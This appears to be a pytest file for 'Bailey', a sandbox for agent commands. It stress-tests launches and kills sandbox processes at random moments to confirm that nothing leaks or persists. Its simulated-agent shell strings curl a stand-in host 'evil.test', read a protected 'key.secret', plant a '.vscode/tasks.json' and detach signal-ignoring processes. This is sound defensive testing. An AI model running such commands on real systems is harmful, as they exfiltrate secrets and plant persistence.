# SPDX-License-Identifier: Apache-2.0
"""Many launches, launches at once, and death at any moment: nothing stays, nothing opens.

BAILEY_MANY=1 in the environment runs the full numbers (1,000 launches, 200 deaths of each process).
"""
import os
import random
import signal
import socket
import subprocess
import threading
import time

import pytest

from conftest import program
from kit.process import SANITIZED, SLOW, descendants, name_of, report_of, wait_until

pytestmark = pytest.mark.visible_home

MANY = bool(os.environ.get("BAILEY_MANY"))
LAUNCHES = 1000 if MANY else 200 // SLOW
DEATHS = 800 if MANY else 80 // SLOW
AT_ONCE = 50 // SLOW


@pytest.fixture
def work(home):
    directory = home / "work"
    directory.mkdir()
    (directory / "file").write_text("content\n")
    return directory


def tree(directory):
    """Everything there, without Bailey's own records. Something may go meanwhile."""
    found = (os.path.relpath(os.path.join(at, name), directory) for at, names, files in os.walk(directory) for name in [*names, *files])
    return sorted(path for path in found if path.split("/")[0] not in (".local", ".run"))


# At most so many namespaces of a kind may exist at a time below this one: a launch that leaves one behind uses them up.
LIMITED = """
for kind in mnt net pid ipc uts user cgroup; do echo 100 > /proc/sys/user/max_${kind}_namespaces; done
before=$(ls /proc/self/fd | wc -l)
i=0
while [ $i -lt "$1" ]; do
        "$2" run --quiet -- cat file >/dev/null || { echo "launch $i: $?"; exit 1; }
        i=$((i + 1))
done
[ "$(ls /proc/self/fd | wc -l)" = "$before" ] && echo whole
"""


def test_launches_in_a_row_leave_nothing(run, home, work):
    before = tree(home)
    result = run(["unshare", "--user", "--map-root-user", "sh", "-c", LIMITED, "sh", str(LAUNCHES), program("bailey")], cwd=work,
                 timeout=300 * SLOW).check()
    assert result.text == "whole\n", result
    assert tree(home) == before


def test_launches_at_once(start, home, work):
    before = tree(home)
    children = [start(["bailey", "run", "--quiet", "--", "sh", "-c", f"sleep 0.2; cat file; exit {n % 7}"], cwd=work) for n in range(AT_ONCE)]
    for n, child in enumerate(children):
        result = child.wait(120)
        assert result.status == n % 7 and result.text == "content\n", result
    assert tree(home) == before


def test_sockets_that_come_and_go_while_launching(bailey, home, work):
    """Sockets of the host are masked at launch; one that vanishes meanwhile is nothing to mask, and no reason to fail."""
    stop = threading.Event()

    def come_and_go():
        n = 0
        while not stop.is_set():
            with socket.socket(socket.AF_UNIX) as server:
                path = home / f"s{n % 8}"
                server.bind(str(path))
                path.unlink()
            n += 1

    thread = threading.Thread(target=come_and_go)
    thread.start()
    try:
        for _ in range(30):
            bailey("run", "--quiet", "--", "true", cwd=work).check()
    finally:
        stop.set()
        thread.join()


# Does what an agent might: plants something protected, and knocks at a closed door over and over. When it is ready, it has opened all that
# it itself needs: without a broker it could not, would end, and the supervisor would be killed while it cleans up, with nobody left to do it.
BUSY = ("mkdir -p .vscode && echo x > .vscode/tasks.json; (trap '' TERM HUP INT; setsid sleep 300 &) ; exec 2>/dev/null; echo ready; "
        "while :; do curl -s -m 2 http://evil.test:{port}/ ; curl -s -m 2 -x '' http://evil.test:{port}/; cat key.secret; done")


def pick(child, victim):
    """The process to kill: the supervisor itself, or one below it by its name, if it is there yet."""
    if victim == "supervisor":
        return child.pid
    return next((pid for pid in descendants(child.pid) if name_of(pid) == f"bailey-{victim}"), None)


def without_kept(found):
    """What init moves away, when the supervisor was killed, stays beside its place under a name that no program obeys."""
    return type(found)(entry for entry in found if ".bailey-kept-" not in str(entry))


@pytest.mark.exact_build  # with a sanitizer the gateway starts too late to be killed
@pytest.mark.parametrize("victim", ["supervisor", "init", "gateway", "broker"])
def test_death_at_any_moment(victim, start, home, work, origin):
    (home / "hosts").write_text("127.0.0.1 origin.test evil.test\n")
    (work / "key.secret").write_text("secret\n")
    before = tree(home)
    chance = random.Random(f"{victim} {DEATHS}")
    killed = 0
    for _ in range(DEATHS // 4):
        child = start(["bailey", "run", "--quiet", "--hosts", home / "hosts", "--allow", f"origin.test:{origin.port}", "--deny-read", "**/*.secret",
                       "--", "sh", "-c", BUSY.format(port=origin.port)], cwd=work)
        time.sleep(chance.choice([0, 0.003, 0.01, 0.03, 0.1, 0.2]) * chance.random() * SLOW)
        if victim in ("gateway", "broker"):
            wait_until(lambda: b"ready" in child.output() or not child.running(), 20 * SLOW, "the command")
            time.sleep(chance.random() * 0.1)
        below = descendants(child.pid)
        target = pick(child, victim)
        if target:
            killed += 1
            os.kill(target, signal.SIGKILL)
        if victim in ("gateway", "broker") or not target:
            time.sleep(0.05)  # it goes on, closed
            child.signal(signal.SIGKILL)
        child.wait()
        wait_until(lambda: not [pid for pid in below if name_of(pid)], 20 * SLOW, "the end of everything")
        wait_until(lambda: without_kept(tree(home)) == before, 20 * SLOW, "a clean workspace")
        assert b"secret" not in child.output()
    assert killed >= DEATHS // 16
    start(["bailey", "run", "--quiet", "--", "true"], cwd=work).wait()
    assert tree(home) == before, "the next run takes along what was set aside beside its place"
    assert origin.requests() == [] and origin.received() == b""


# Whoever is traced stays a zombie, which its parent waits for, until the tracer ends.
HOLD = "import ctypes, signal, sys\nassert ctypes.CDLL(None).ptrace(0x4206, int(sys.argv[1]), None, None) == 0\nprint('held', flush=True)\nsignal.pause()"
PLANTED = "curl -s -m 20 http://evil.test:1/; mkdir .vscode && echo x > .vscode/tasks.json; sleep 300 & echo ready; wait"


@pytest.mark.root  # who looks at Bailey's own processes
@pytest.mark.exact_build
@pytest.mark.parametrize("slow", ["sleep", "bailey-gateway"])
def test_an_end_that_takes_time(slow, start, home, work):
    """The supervisor is killed while init waits for a process inside: then init cleans up. And for the gateway's end nothing planted waits."""
    child = start(["bailey", "run", "--quiet", "--", "sh", "-c", PLANTED], cwd=work)
    wait_until(lambda: b"ready" in child.output(), 60 * SLOW, "the command")
    wait_until(lambda: "sleep" in map(name_of, descendants(child.pid)), 60 * SLOW, "the other process")
    below = {name_of(pid): pid for pid in descendants(child.pid)}
    holder = start(["/usr/bin/python3", "-c", HOLD, str(below[slow])])
    try:
        wait_until(lambda: b"held" in holder.output(), 60 * SLOW, "the holder")
        os.kill(below["sh"], signal.SIGKILL)
        if slow == "sleep":
            wait_until(lambda: not name_of(below["sh"]), 60 * SLOW, "the end of the command")
            child.signal(signal.SIGKILL)
            child.wait()
        else:
            wait_until(lambda: not (work / ".vscode").exists(), 60 * SLOW, "a clean workspace")
    finally:
        holder.stop()
    wait_until(lambda: not (work / ".vscode").exists(), 60 * SLOW, "a clean workspace")
    child.wait()
    wait_until(lambda: not name_of(below["bailey-init"]), 60 * SLOW, "the end of init")


if SANITIZED:
    @pytest.mark.parametrize("options", [[], ["--deny-read", "**/.env"]], ids=["at its first call", "from the beginning"])
    def test_what_a_sanitizer_finds_in_the_broker_is_seen(environment, home, work, options):
        """Every test fails whose program says such a thing: the broker's errors are the run's."""
        (work / ".envrc").write_text("protected\n")
        errors = home / "errors"
        with open(errors, "wb") as file, subprocess.Popen([program("bailey"), "run", "-q", *options, "--", "sh", "-c", "touch made; read line"], cwd=work,
                                                          env=environment, stdin=subprocess.PIPE, stderr=file) as child:
            broker = wait_until(lambda: [pid for pid in descendants(child.pid) if name_of(pid) == "bailey-broker"], 60 * SLOW)[0]
            wait_until(lambda: (work / "made").exists(), 60 * SLOW)
            os.kill(broker, signal.SIGSEGV)
            wait_until(lambda: report_of(errors.read_text()), 60 * SLOW, "the report")
            child.stdin.close()
